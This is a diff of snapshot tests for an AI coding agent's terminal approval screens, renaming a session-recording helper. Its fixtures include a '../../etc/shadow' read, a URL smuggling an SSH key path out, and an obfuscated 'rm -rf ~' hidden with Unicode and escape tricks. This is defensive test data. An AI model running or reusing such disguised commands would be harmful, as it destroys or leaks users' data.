@@ -8,10 +8,10 @@ from textual.pilot import Pilot
 
 from assent.approval import AskDetails, Choice, EditDetails, ExecDetails, InfoDetails, McpDetails, Question
 from assent.events import Attached
-from assent.front.tui.answers import AnswerScreen
+from assent.front.tui.answer_screens import AnswerScreen
 from assent.parts import MarkdownDisplay, PlainDisplay, TerminalDisplay, Text, Todo, TodosDisplay
 from assent.tools.support.diff import diff
-from support.film import FOLDER, Film
+from support.recorded_session import FOLDER, RecordedSession
 from support.screens import SIZES, Play, check, picture, settle
 
 pytestmark = [pytest.mark.spec("G2"), pytest.mark.spec("G3")]
@@ -61,87 +61,95 @@ def discount(amount: int) -> int:
 """
 
 
-def told() -> Film:
+def told() -> RecordedSession:
     """A conversation with thoughts, calls of several outcomes and an answer."""
-    film = Film().prompt(ASK)
-    film.reply("I look at the project first.", "**Getting an overview**\nThree files. I read them before I touch them.")
-    film.call("list", "list_directory", dir_path=".").runs("list")
-    film.ends("list", PlainDisplay("cart.py\nREADME.md\ntest_cart.py"), ms=3)
-    film.call("read", "read_file", file_path="cart.py").runs("read").ends("read", PlainDisplay(OLD), ms=8)
-    film.call("test", "run_shell_command", command="python3 -m unittest -v", description="Run the tests").runs("test")
-    film.ends("test", TerminalDisplay(TESTS), ms=1234)
-    film.call("fix", "replace", file_path="cart.py", instruction="Begin at exactly 100.00").runs("fix")
-    film.ends("fix", diff("cart.py", OLD, NEW).display("cart.py"), ms=5)
-    return film.reply(MARKDOWN, "**Found it**\nThe docstring says *from*, the code says *above*.").over()
+    recording = RecordedSession().prompt(ASK)
+    recording.reply(
+        "I look at the project first.", "**Getting an overview**\nThree files. I read them before I touch them."
+    )
+    recording.call("list", "list_directory", dir_path=".").runs("list")
+    recording.ends("list", PlainDisplay("cart.py\nREADME.md\ntest_cart.py"), ms=3)
+    recording.call("read", "read_file", file_path="cart.py").runs("read").ends("read", PlainDisplay(OLD), ms=8)
+    recording.call("test", "run_shell_command", command="python3 -m unittest -v", description="Run the tests").runs(
+        "test"
+    )
+    recording.ends("test", TerminalDisplay(TESTS), ms=1234)
+    recording.call("fix", "replace", file_path="cart.py", instruction="Begin at exactly 100.00").runs("fix")
+    recording.ends("fix", diff("cart.py", OLD, NEW).display("cart.py"), ms=5)
+    return recording.reply(MARKDOWN, "**Found it**\nThe docstring says *from*, the code says *above*.").over()
 
 
-def streaming() -> Film:
-    film = Film().prompt("Watch the tests.")
-    film.reply("I start them.").call("test", "run_shell_command", command="make test").runs("test", TESTS)
-    return film.call("look", "read_file", file_path="Makefile").runs("look").ends("look", PlainDisplay("all:"))
+def streaming() -> RecordedSession:
+    recording = RecordedSession().prompt("Watch the tests.")
+    recording.reply("I start them.").call("test", "run_shell_command", command="make test").runs("test", TESTS)
+    return recording.call("look", "read_file", file_path="Makefile").runs("look").ends("look", PlainDisplay("all:"))
 
 
-def mentioned() -> Film:
+def mentioned() -> RecordedSession:
     content = (Text("…"),)
-    film = Film().prompt(
+    recording = RecordedSession().prompt(
         "Does @cart.py do what @docs/ and the picture @till.png say? Mind @.env, too.",
         Attached("cart.py", "27 lines", content),
         Attached("docs/", "3 files", content),
         Attached("till.png", "image/png", content),
         Attached(".env", problem="a usual place for secrets"),
     )
-    return film.reply("It does.").over()
+    return recording.reply("It does.").over()
 
 
-def thinking() -> Film:
-    film = Film().prompt("Why is it slow?").reply("Let me see.").over().prompt("And now?")
-    return film.streams("It reads every file **twice**, because", ("Counting the reads", "Once for the digest …"))
+def thinking() -> RecordedSession:
+    recording = RecordedSession().prompt("Why is it slow?").reply("Let me see.").over().prompt("And now?")
+    return recording.streams("It reads every file **twice**, because", ("Counting the reads", "Once for the digest …"))
 
 
-def failed_model() -> Film:
+def failed_model() -> RecordedSession:
     problem = "No key for the model. Get one for free at https://aistudio.google.com/apikey\nand set it in this shell."
-    return Film().prompt("Hello?").over("failed", problem)
+    return RecordedSession().prompt("Hello?").over("failed", problem)
 
 
-def failed_calls() -> Film:
-    film = Film().prompt("Try it.").reply("I try.")
-    film.call("a", "run_shell_command", command="make [all]").runs("a")
-    film.ends("a", TerminalDisplay("make: *** No rule to make target '[all]'.\n"), "error", "Exit code 2.", 35)
-    film.call("b", "read_file", file_path="../../etc/shadow")
-    film.ends("b", status="error", failure="../../etc/shadow is outside of the folder.\nAsk for a file inside of it.")
-    film.call("c", "write_file", file_path="notes.txt", content="x").ends("c", status="cancelled", failure="refused")
-    return film.over("cancelled")
+def failed_calls() -> RecordedSession:
+    recording = RecordedSession().prompt("Try it.").reply("I try.")
+    recording.call("a", "run_shell_command", command="make [all]").runs("a")
+    recording.ends("a", TerminalDisplay("make: *** No rule to make target '[all]'.\n"), "error", "Exit code 2.", 35)
+    recording.call("b", "read_file", file_path="../../etc/shadow")
+    recording.ends(
+        "b", status="error", failure="../../etc/shadow is outside of the folder.\nAsk for a file inside of it."
+    )
+    recording.call("c", "write_file", file_path="notes.txt", content="x").ends(
+        "c", status="cancelled", failure="refused"
+    )
+    return recording.over("cancelled")
 
 
-def todos() -> Film:
-    film = Film("plan").prompt("Plan it.").reply("Here is my plan.").call("t", "write_todos").runs("t")
-    film.ends(
+def todos() -> RecordedSession:
+    recording = RecordedSession("plan").prompt("Plan it.").reply("Here is my plan.").call("t", "write_todos").runs("t")
+    recording.ends(
         "t", TodosDisplay((Todo("Read the code", "completed"), Todo("Fix it", "in_progress"), Todo("Rest", "pending")))
     )
-    film.call("m", "web_search", query="python  [bold]rounding[/bold]").runs("m")
-    return film.ends("m", MarkdownDisplay("Use `decimal` [1].\n\n1. docs.python.org")).over()
+    recording.call("m", "web_search", query="python  [bold]rounding[/bold]").runs("m")
+    return recording.ends("m", MarkdownDisplay("Use `decimal` [1].\n\n1. docs.python.org")).over()
 
 
-def waiting_queue() -> Film:
-    film = Film().prompt("Do it.").streams("I am at it.")
-    return film.queue("and then run the tests", "then commit\nwith a good message", "third", "fourth", "fifth")
+def waiting_queue() -> RecordedSession:
+    recording = RecordedSession().prompt("Do it.").streams("I am at it.")
+    return recording.queue("and then run the tests", "then commit\nwith a good message", "third", "fourth", "fifth")
 
 
-def wide() -> Film:
-    film = Film().prompt("请修复折扣错误 🛒 並解釋原因，謝謝。" * 4)
-    film.reply("折扣应从 **100.00** 开始。👩‍💻 " * 6 + "\n\n" + "x" * 300)
-    film.call("w", "write_file", file_path="文档/说明.md", content="…").runs("w")
-    film.ends("w", diff("文档/说明.md", "旧的一行 🙂\n", "新的一行，更长一些 🙂🙂\n").display("文档/说明.md"))
-    film.call("l", "run_shell_command", command="echo " + "very-long-word-" * 20).runs("l")
-    return film.ends("l", TerminalDisplay("很长的输出 " * 30)).over()
+def wide() -> RecordedSession:
+    recording = RecordedSession().prompt("请修复折扣错误 🛒 並解釋原因，謝謝。" * 4)
+    recording.reply("折扣应从 **100.00** 开始。👩‍💻 " * 6 + "\n\n" + "x" * 300)
+    recording.call("w", "write_file", file_path="文档/说明.md", content="…").runs("w")
+    recording.ends("w", diff("文档/说明.md", "旧的一行 🙂\n", "新的一行，更长一些 🙂🙂\n").display("文档/说明.md"))
+    recording.call("l", "run_shell_command", command="echo " + "very-long-word-" * 20).runs("l")
+    return recording.ends("l", TerminalDisplay("很长的输出 " * 30)).over()
 
 
 # --- questions ---
 
 
-def asked(details: object, tool: str = "run_shell_command", why: str = "", **args: object) -> Film:
-    film = Film().prompt(ASK).reply("Now I need your assent.")
-    return film.asks("c1", tool, details, why or "It is not known to be harmless.", **args)  # type: ignore[arg-type]
+def asked(details: object, tool: str = "run_shell_command", why: str = "", **args: object) -> RecordedSession:
+    recording = RecordedSession().prompt(ASK).reply("Now I need your assent.")
+    return recording.asks("c1", tool, details, why or "It is not known to be harmless.", **args)  # type: ignore[arg-type]
 
 
 def edit(new: str, path: str = "cart.py", old: str | None = OLD, protected: str = "") -> EditDetails:
@@ -152,30 +160,30 @@ def command(text: str, risk: str = "low", reason: str = "it runs a program of th
     return ExecDetails(text, (text.split()[0],), FOLDER, risk, reason)  # type: ignore[arg-type]
 
 
-def run(text: str, risk: str = "low", reason: str = "it runs a program of the project") -> Film:
+def run(text: str, risk: str = "low", reason: str = "it runs a program of the project") -> RecordedSession:
     return asked(command(text, risk, reason), command=text)
 
 
-def one_edit() -> Film:
+def one_edit() -> RecordedSession:
     return asked(edit(NEW), "replace", "Changing a file needs your assent.", file_path="cart.py")
 
 
-def two_parts() -> Film:
+def two_parts() -> RecordedSession:
     return asked(edit(TWO), "replace", "Changing a file needs your assent.", file_path="cart.py")
 
 
-def new_file() -> Film:
+def new_file() -> RecordedSession:
     details = edit("hooks:\n  - run: [curl, example.com]\n", ".assent/settings.yml", None, "it configures Assent")
     return asked(details, "write_file", "The file is protected.", file_path=".assent/settings.yml")
 
 
-def web() -> Film:
+def web() -> RecordedSession:
     url = "https://example.com/collect?data=%68%65%6c%6c%6f%20secret&next=%2Fhome%2Fann%2F.ssh%2Fid_rsa"
     details = InfoDetails("Summarise what is there", (url,), ("the address carries a lot of data",))
     return asked(details, "web_fetch", "Fetching a page needs your assent.", prompt="Summarise", url=url)
 
 
-def server() -> Film:
+def server() -> RecordedSession:
     args = {
         "title": "A [bold]bug[/bold]\nin two lines",
         "labels": ["bug", "cart"],
@@ -189,7 +197,7 @@ def server() -> Film:
     return asked(details, "mcp_tracker_create_issue", "Tools of servers ask.", **args)
 
 
-def question() -> Film:
+def question() -> RecordedSession:
     details = AskDetails(
         (
             Question(
@@ -202,17 +210,17 @@ def question() -> Film:
     return asked(details, "ask_user", "The model wants to know.")
 
 
-def several() -> Film:
-    film = run("python3 -m unittest -v")
-    film.asks("c2", "replace", edit(NEW), "Changing a file needs your assent.", file_path="cart.py")
-    return film.asks("c3", "run_shell_command", command("git push", "medium", "it sends"), command="git push")
+def several() -> RecordedSession:
+    recording = run("python3 -m unittest -v")
+    recording.asks("c2", "replace", edit(NEW), "Changing a file needs your assent.", file_path="cart.py")
+    return recording.asks("c3", "run_shell_command", command("git push", "medium", "it sends"), command="git push")
 
 
-def long_command() -> Film:
+def long_command() -> RecordedSession:
     return run("\n".join(f"echo step {number} of a long script" for number in range(60)), "medium", "it is long")
 
 
-def hidden() -> Film:
+def hidden() -> RecordedSession:
     text = "echo harmless\u202e # gnihton\u200b\x1b[2J\x1b[H" + " " * 300 + "\r rm -rf ~ раураl"
     return run(text, "high", "it deletes files [bold]for good[/bold]")
 
@@ -245,8 +253,8 @@ def types(line: str) -> Play:
     return presses(*line, "enter")
 
 
-SCREENS: dict[str, tuple[Callable[[], Film], Play | None]] = {
-    "start": (Film, None),
+SCREENS: dict[str, tuple[Callable[[], RecordedSession], Play | None]] = {
+    "start": (RecordedSession, None),
     "conversation": (told, None),
     "conversation-unfolded": (told, presses("ctrl+o")),
     "conversation-selected": (told, presses("ctrl+up", "up")),
@@ -276,14 +284,14 @@ SCREENS: dict[str, tuple[Callable[[], Film], Play | None]] = {
     "answer-reason": (lambda: run("python3 -m unittest -v"), opens("r", "n", "o")),
     "answer-arguments": (server, opens("i")),
     "answer-question": (question, opens("y")),
-    "help": (Film, types("/help")),
+    "help": (RecordedSession, types("/help")),
     "stats": (told, types("/stats")),
-    "tools": (Film, types("/tools")),
-    "servers": (Film, types("/mcp")),
-    "models": (Film, types("/model")),
-    "server-page": (Film, presses(*"/mcp", "enter", "enter")),
-    "completion": (Film, presses(*"/mo")),
-    "completion-resource": (Film, presses(*"@doc")),
+    "tools": (RecordedSession, types("/tools")),
+    "servers": (RecordedSession, types("/mcp")),
+    "models": (RecordedSession, types("/model")),
+    "server-page": (RecordedSession, presses(*"/mcp", "enter", "enter")),
+    "completion": (RecordedSession, presses(*"/mo")),
+    "completion-resource": (RecordedSession, presses(*"@doc")),
 }
 
 
@@ -292,8 +300,8 @@ SCREENS: dict[str, tuple[Callable[[], Film], Play | None]] = {
 async def test_a_screen_looks_as_it_did(
     name: str, size: tuple[int, int], request: pytest.FixtureRequest, tmp_path: Path
 ):
-    film, play = SCREENS[name]
-    svg = await picture(film(), size, play)
+    recording, play = SCREENS[name]
+    svg = await picture(recording(), size, play)
     update = bool(request.config.getoption("--update-screens"))
     check(f"{name}-{size[0]}x{size[1]}", svg, update=update, folder=tmp_path)
 
@@ -303,6 +311,6 @@ async def test_a_screen_looks_as_it_did(
 async def test_a_screen_in_another_look_looks_as_it_did(
     name: str, look: str, request: pytest.FixtureRequest, tmp_path: Path
 ):
-    film, play = SCREENS[name]
-    svg = await picture(film(), (80, 24), play, look)
+    recording, play = SCREENS[name]
+    svg = await picture(recording(), (80, 24), play, look)
     check(f"{name}-{look}", svg, update=bool(request.config.getoption("--update-screens")), folder=tmp_path)
